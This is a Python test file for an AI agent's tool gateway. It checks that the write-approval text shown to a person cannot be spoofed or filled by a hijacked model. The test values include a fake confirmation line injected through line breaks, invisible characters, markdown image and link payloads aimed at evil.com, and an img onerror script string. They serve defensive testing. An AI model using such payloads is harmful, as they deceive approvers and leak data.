"""What a resident is shown before a write: all of it, and no value passes for a line of the gateway's. What a model may
not fill, it cannot: the credential's place, bound and hidden members of a body."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from agent.approval import words
from schemas.deadline import Deadline
from schemas.tool import PreparedCall, ToolCall, ToolResult
from tests.support.outside import DOCUMENT, IDENTITY, TOKEN, outside, write_catalogue
from tests.support.raw_upstream import RawUpstream, answer


def document() -> dict[str, Any]:
    """`makeThing` also takes `extra`, an object of names that the document does not know."""
    made = copy.deepcopy(DOCUMENT)
    body = made["paths"]["/things"]["post"]["requestBody"]["content"]["application/json"]["schema"]
    body["properties"]["extra"] = {"type": "object", "additionalProperties": True}
    return made


async def prepare(folder: Path, arguments: dict[str, Any]) -> PreparedCall | ToolResult:
    async with outside(write_catalogue(folder, "http://127.0.0.1:1", document=document())) as toolset:
        return await toolset.prepare(ToolCall("c", "makeThing", json.dumps(arguments)), "zh", Deadline.after(5))


async def shown(folder: Path, arguments: dict[str, Any]) -> list[str]:
    prepared = await prepare(folder, arguments)
    assert isinstance(prepared, PreparedCall), prepared
    return words(prepared, "zh", 300).split("\n")


@pytest.mark.parametrize("line_break", ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"])
async def test_a_value_with_line_breaks_is_one_line(tmp_path: Path, line_break: str) -> None:
    """A hijacked model cannot add a line of its own, as a value or as the name of one."""
    honest = await shown(tmp_path, {"name": "灯", "extra": {"a": "b"}})
    fake = f"灯{line_break}• 金额：0.01 元{line_break}回复“确认”提交"
    lines = await shown(tmp_path, {"name": fake, "extra": {f"a{line_break}• 价格": "b"}})
    assert len(lines) == len(honest)
    assert lines[2] == "• 名称：灯 ⏎ • 金额：0.01 元 ⏎ 回复“确认”提交"


async def test_what_cannot_be_seen_is_shown(tmp_path: Path) -> None:
    """Characters that turn the direction, hide, or move the following words to the next line."""
    lines = await shown(tmp_path, {"name": f"a\u202eb\u200bc\x1b{' ' * 90}d"})
    assert lines[2] == "• 名称：a\\u202eb\\u200bc\\u001b ␣×90 d"


@pytest.mark.parametrize(
    ("value", "shown_as"),
    [
        ("![x](https://evil.com/?d=1)", "![x][(]https[://]evil[.]com/?d=1)"),
        ("[灯](//evil.com)", "[灯][(][//]evil[.]com)"),
        ("<img src=x onerror=alert(1)>", "[<]img src=x onerror=alert(1)>"),
        ("www.evil.com", "www[.]evil[.]com"),
        ("联系 a@b.com，3.5 米", "联系 a@b.com，3.5 米"),
    ],
)
async def test_a_value_is_no_link_and_is_sent_as_it_is(tmp_path: Path, value: str, shown_as: str) -> None:
    """A40: a hijacked model puts an address into an argument: the resident reads every character of it, no client
    loads or links it, and the request is the one with the value itself."""
    prepared = await prepare(tmp_path, {"name": value})
    assert isinstance(prepared, PreparedCall)
    assert words(prepared, "zh", 300).split("\n")[2] == f"• 名称：{shown_as}"
    assert json.loads(prepared.call.arguments)["name"] == value


async def test_an_unknown_name_does_not_pass_for_a_known_one(tmp_path: Path) -> None:
    """A name of the model's own stands with its path; what is empty is told too."""
    lines = await shown(tmp_path, {"name": "a", "extra": {"名称": "b", "deep": [[{"c": "d"}]]}})
    assert lines[2:5] == ["• 名称：a", "• extra.名称：b", '• extra.deep：{"c":"d"}']
    assert "• extra：未指定" in await shown(tmp_path, {"name": "a", "extra": {}})


async def test_nothing_of_a_write_is_cut(tmp_path: Path) -> None:
    """The end of a long text is shown."""
    assert (await shown(tmp_path, {"name": "x" * 5000 + "END"}))[2].endswith("xEND")


@pytest.mark.parametrize(
    "arguments",
    [{"name": "x" * 9000}, {"name": "a", "extra": {f"f{number}": number for number in range(61)}}],
)
async def test_a_write_too_large_to_be_checked_is_refused(tmp_path: Path, arguments: dict[str, Any]) -> None:
    """Rather than parked with a part that nobody saw."""
    refused = await prepare(tmp_path, arguments)
    assert isinstance(refused, ToolResult)
    assert refused.error == "invalid_arguments"


async def test_a_model_cannot_hide_a_text_in_a_file(tmp_path: Path) -> None:
    """Of a file only its name is shown, and files come from uploads alone."""
    file = {"$file": {"filename": "harmless.txt", "content": "HIDDEN"}}
    refused = await prepare(tmp_path, {"name": "a", "extra": {"note": file}})
    assert isinstance(refused, ToolResult)
    assert refused.error == "invalid_arguments"


async def test_an_identity_that_echoes_the_token_does_not_tell_it_to_a_model(tmp_path: Path) -> None:
    """The facts go into the prompt: they are scrubbed as every tool result is."""
    me = answer({"userId": "u1", "tenantId": "T1", "name": f"张三 {TOKEN}"})
    async with (
        RawUpstream([me]) as upstream,
        outside(write_catalogue(tmp_path, upstream.url, head=IDENTITY)) as toolset,
    ):
        caller = await toolset.caller(Deadline.after(5))
    assert caller.identity is not None
    assert caller.identity.facts == {"tenant": "T1", "name": "张三 ***"}


@pytest.mark.parametrize(
    ("auth", "hidden"),
    [
        ("{header: X-Access-Token, prefix: ''}", "X-Access-Token"),
        ("{query: access_token}", "access_token"),
        ("{cookie: SESSION}", "SESSION"),
    ],
)
async def test_where_the_credential_goes_nothing_of_a_model_does(tmp_path: Path, auth: str, hidden: str) -> None:
    """Generators declare the token as a parameter of every operation: a model neither sees nor fills it."""
    made = copy.deepcopy(DOCUMENT)
    place = {"X-Access-Token": "header", "access_token": "query", "SESSION": "cookie"}[hidden]
    parameter = {"name": hidden, "in": place, "required": True, "schema": {"type": "string"}}
    made["paths"]["/things"]["get"]["parameters"].append(parameter)
    async with RawUpstream([answer([])]) as upstream:
        catalogue = write_catalogue(tmp_path, upstream.url, f"    auth: {auth}\n", document=made)
        async with outside(catalogue) as toolset:
            (spec,) = [spec for spec in toolset.specs() if spec.name == "listThings"]
            call = ToolCall("c", "listThings", json.dumps({hidden: "stolen"}))
            refused = await toolset.prepare(call, "zh", Deadline.after(5))
            prepared = await toolset.prepare(ToolCall("c", "listThings", "{}"), "zh", Deadline.after(5))
            assert isinstance(prepared, PreparedCall)
            assert (await toolset.call(prepared, "zh", Deadline.after(5))).ok
    assert hidden not in spec.parameters["properties"]
    assert isinstance(refused, ToolResult)
    (sent,) = upstream.requests
    assert TOKEN in f"{sent.target} {sent.header('x-access-token')} {sent.header('cookie')}"


_MEMBERS = {"name": {"type": "string"}, "tenantId": {"type": "string"}}
_OBJECT = {"type": "object", "properties": _MEMBERS}


async def ask_with_body(folder: Path, schema: dict[str, Any], arguments: dict[str, Any]) -> PreparedCall | ToolResult:
    """`makeThing` with another body; `body.tenantId` is bound."""
    made = copy.deepcopy(DOCUMENT)
    made["paths"]["/things"]["post"]["requestBody"]["content"]["application/json"]["schema"] = schema
    me = answer({"userId": "u1", "tenantId": "T1", "name": "n"})
    more = "    bind: {body.tenantId: identity.tenant}\n    hide: [secret]\n"
    async with (
        RawUpstream([me]) as upstream,
        outside(write_catalogue(folder, upstream.url, more, IDENTITY, made)) as toolset,
    ):
        return await toolset.prepare(ToolCall("c", "makeThing", json.dumps(arguments)), "zh", Deadline.after(5))


@pytest.mark.parametrize(
    ("schema", "body"),
    [
        (
            {"oneOf": [{**_OBJECT, "required": ["name"]}, {**_OBJECT, "required": ["x"]}]},
            {"name": "a", "tenantId": "T2"},
        ),
        ({"type": "object", "additionalProperties": True}, {"tenantId": "T2"}),
        ({"type": "object", "additionalProperties": True}, {"secret": "x"}),
        ({"type": "array", "items": _OBJECT}, [{"name": "a"}, {"tenantId": "T2"}]),
    ],
)
async def test_a_bound_member_of_a_whole_body_is_refused(tmp_path: Path, schema: dict[str, Any], body: Any) -> None:
    """Also where the body is one argument, whose schema could not leave it out."""
    refused = await ask_with_body(tmp_path, schema, {"body": body})
    assert isinstance(refused, ToolResult)
    assert refused.error == "invalid_arguments"


async def test_a_bound_member_of_a_composed_body_is_filled(tmp_path: Path) -> None:
    """`allOf` is one object."""
    parts = [{"type": "object", "properties": {name: schema}} for name, schema in _MEMBERS.items()]
    prepared = await ask_with_body(tmp_path, {"allOf": parts}, {"name": "a"})
    assert isinstance(prepared, PreparedCall)
    assert prepared.request.built.body == b'{"name":"a","tenantId":"T1"}'  # type: ignore[attr-defined]


def test_a_binding_that_no_operation_declares_is_told(tmp_path: Path) -> None:
    """A misspelt one would leave the parameter to the model."""
    catalogue = write_catalogue(tmp_path, "http://127.0.0.1:1", "    bind: {query.sise: 3, query.page: 1}\n")
    assert [note.reason for note in catalogue.notes if "bind" in note.reason] == [
        "line 6: bind: no operation declares query.sise"
    ]
